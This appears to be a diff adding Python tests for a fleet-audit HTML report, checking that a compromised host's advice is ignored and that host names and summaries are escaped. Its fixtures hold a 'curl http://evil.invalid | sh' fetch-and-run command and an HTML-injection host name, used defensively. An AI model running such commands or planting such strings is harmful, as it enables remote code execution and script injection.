@@ -452,3 +452,47 @@ def test_the_page_index_carries_what_a_remediation_left_undone():
     hosts = embedded(page, 'report-index')['hosts']
     assert 'm' not in hosts[0] and hosts[1]['m'] == {'s': 'failed', 'r': 'EROFS </script>', 't': 'T'}
     assert 'EROFS </script>' not in page
+
+
+def static_part(page):
+    """What the controller rendered into the page for a reader without JavaScript (before the data)."""
+    return page[page.index('<header>'):page.index('<script type="application/json" id="report-index">')]
+
+
+def test_html_offers_the_registrys_fix_never_the_hosts(hostile_fleet):
+    """A compromised host's finding may advise any role, variables, module or command: the page's fix is the
+    registry's REMEDIATION (issue 35), in the page's data and in the part rendered without JavaScript."""
+    advice = {'role': 'evil.collection.takeover', 'vars': {'become_pwn': True}, 'module': 'evil.mod',
+              'manual': ['curl http://evil.invalid | sh'], 'disruption': 'none'}
+    hostile = dict(finding('pi_ir_tx', 'affected', 'IR broken'), remediation=advice)
+    page = report.render_html(report.build(['pi1'], {'pi1': audited(pi_ir_tx=hostile)}, CHECKS, '0.2.0'))
+    fix = [c for c in embedded(page, 'report-index')['checks'] if c['id'] == 'pi_ir_tx'][0]['fix']
+    assert fix == json.loads(json.dumps(registry.BY_ID['pi_ir_tx'].REMEDIATION))
+    assert fix['role'] == 'homelab.postmortem.pi_ir_tx'
+    assert 'evil' not in static_part(page) and 'role homelab.postmortem.pi_ir_tx' in static_part(page)
+    # The script reads the fix from the check, and from the host only a disruption of the model's.
+    script = page[page.rindex('<script>'):]
+    assert 'f.remediation ||' not in script and 'check.fix' in script and 'report.disruptions.indexOf(reported)' in script
+
+
+def test_html_without_javascript_has_the_totals_and_the_worst_hosts_escaped(hostile_fleet):
+    page = static_part(report.render_html(hostile_fleet))
+    assert '<span data-total="affected">affected: 2</span>' in page and '<span data-total="unreachable">unreachable: 1</span>' in page
+    rows = page[page.index('<section id="worst">'):page.index('</section>', page.index('<section id="worst">'))]
+    assert rows.count('<tr data-host=') == 4  # strict, nan, surrogate and dead need attention; set is ok
+    assert 'IR &quot;broken&quot; &lt;now&gt;' in rows and 'gone &amp; &lt;away&gt;' in rows
+    assert '<now>' not in page and '<away>' not in page
+    # Escaped as attribute values too: a host name cannot open a tag or end the attribute.
+    named = report.render_html(report.build(['"><img src=x>'], {'"><img src=x>': audited(
+        pi_ir_tx=finding('pi_ir_tx', 'affected'))}, CHECKS, '0.2.0'))
+    assert '<img' not in static_part(named) and 'data-host="&quot;&gt;&lt;img src=x&gt;"' in static_part(named)
+
+
+def test_html_without_javascript_stays_bounded_at_ten_thousand_hosts():
+    hosts = ['h%05d' % i for i in range(10000)]
+    results = dict((h, audited(pi_ir_tx=finding('pi_ir_tx', 'affected', 'x' * 5000), llama_sleep_race=finding(
+        'llama_sleep_race', 'unknown' if i % 2 else 'ok', 'y' * 5000))) for i, h in enumerate(hosts))
+    page = static_part(report.render_html(report.build(hosts, results, CHECKS, '0.2.0')))
+    assert page.count('<tr data-host=') == report_html.WORST_HOSTS == 100
+    assert '10000 host(s) need attention, the worst 100 shown' in page
+    assert len(page) < 60000, len(page)  # summaries of 5,000 characters are cut to WORST_TEXT
